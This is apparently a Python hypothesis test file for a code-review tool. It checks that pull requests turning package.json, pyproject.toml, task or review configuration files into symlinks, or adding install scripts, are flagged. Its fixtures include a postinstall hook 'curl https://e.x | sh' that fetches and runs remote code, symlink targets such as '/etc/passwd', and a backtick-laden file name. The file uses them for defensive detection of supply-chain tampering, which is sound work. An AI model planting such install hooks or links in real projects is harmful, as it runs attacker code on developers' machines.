"""A review of two commits (PR mode) flags a lever file the change makes a symlink, or whose
symlink it points elsewhere: npm, pip, pylint and reviewloop read through the link, while the
trusted side reads regular files only, so a `package.json` replaced by a link to a file
holding a `postinstall` had been no lever at all (`altered({}, {})`). Generated
(hypothesis, derandomized) over the lever files (lever tables, whole-file levers, review
configuration) and the shapes of a link change, in real git repositories."""

from __future__ import annotations

import json
import tempfile
from dataclasses import dataclass
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from reviewloop.config import load_settings
from reviewloop.git.repository import open_repository
from reviewloop.runs.trusted import base_config, config_findings
from tests.support.gitutil import git
from tests.support.repos import commit, init_repo

EVIL = json.dumps({"name": "web", "scripts": {"postinstall": "curl https://e.x | sh"}})
PLAIN = json.dumps({"name": "web", "scripts": {"test": "jest"}})
# every kind of lever file: a shared file's lever tables, a whole-file lever, the review's
# own configuration (a file, a folder's file)
LEVER_PATHS = ["package.json", "web/package.json", "pyproject.toml", "lib/pyproject.toml",
               ".pylintrc", "setup.cfg", ".vscode/tasks.json", ".reviewloop.toml",
               ".kiro/steering/tone.md"]
TARGETS = ["evil.json", "../outside/package.json", "node_modules/x/package.json",
           "/etc/passwd", "a b/`weird`.json"]


@dataclass(frozen=True)
class Link:
    """A side of the change where the path is a symlink to `target`."""

    target: str


Side = str | Link | None  # a regular file's text, a symlink, or no file


def _place(root: Path, path: str, side: Side) -> None:
    place = root / path
    if place.is_symlink() or place.exists():
        place.unlink()
    if side is None:
        return
    place.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(side, Link):
        place.symlink_to(side.target)
    else:
        place.write_text(side)


def _findings(root: Path, path: str, before: Side, after: Side) -> list[str]:
    init_repo(root, {"evil.json": EVIL, "README.md": "project\n"})
    _place(root, path, before)
    commit(root, {"base.txt": "base\n"}, message="base")
    git(root, "switch", "-qc", "feature")
    _place(root, path, after)
    commit(root, {"README.md": "changed\n"})
    repo = open_repository(root)
    with base_config(repo, "main", "feature", lambda r, c: load_settings(r, environ={}),
                     None) as trusted:
        return [f.rationale for f in config_findings(repo, trusted) if f.file == path]


def _plain(path: str) -> str:
    """A harmless regular file at `path`, as its tool reads it."""
    return "# plain\n" if path.endswith(".toml") else PLAIN


def _said(link: str, rationales: list[str]) -> bool:
    return any(link in why for why in rationales)


@settings(max_examples=40, derandomize=True, deadline=None)
@given(path=st.sampled_from(LEVER_PATHS), target=st.sampled_from(TARGETS),
       before=st.sampled_from(["file", "none"]))
def test_a_lever_file_made_a_symlink_is_flagged_naming_the_target(path: str, target: str,
                                                                  before: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        said = _findings(Path(tmp) / "repo", path, _plain(path) if before == "file" else None,
                         Link(target))
    shown = target.replace("`", "'")
    assert _said(f"made a symlink to `{shown}`", said), said


@settings(max_examples=30, derandomize=True, deadline=None)
@given(path=st.sampled_from(LEVER_PATHS),
       targets=st.lists(st.sampled_from(TARGETS), min_size=2, max_size=2, unique=True))
def test_a_lever_symlink_pointed_elsewhere_is_flagged_naming_both(path: str,
                                                                  targets: list[str]) -> None:
    old, new = (t.replace("`", "'") for t in targets)
    with tempfile.TemporaryDirectory() as tmp:
        said = _findings(Path(tmp) / "repo", path, Link(targets[0]), Link(targets[1]))
    assert _said(f"symlink retargeted from `{old}` to `{new}`", said), said


@settings(max_examples=20, derandomize=True, deadline=None)
@given(path=st.sampled_from(["package.json", "web/package.json"]),
       target=st.sampled_from(TARGETS))
def test_a_package_json_link_made_a_file_with_an_install_script_is_flagged(
        path: str, target: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        said = _findings(Path(tmp) / "repo", path, Link(target), EVIL)
    assert _said("scripts.postinstall added", said), said


def test_a_link_left_alone_and_a_plain_package_are_not_flagged(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    init_repo(root, {"evil.json": EVIL, "README.md": "project\n"})
    (root / "package.json").symlink_to("evil.json")
    commit(root, message="base")
    git(root, "switch", "-qc", "feature")
    commit(root, {"README.md": "changed\n", "web/package.json": PLAIN})
    repo = open_repository(root)
    with base_config(repo, "main", "feature", lambda r, c: load_settings(r, environ={}),
                     None) as trusted:
        assert config_findings(repo, trusted) == []
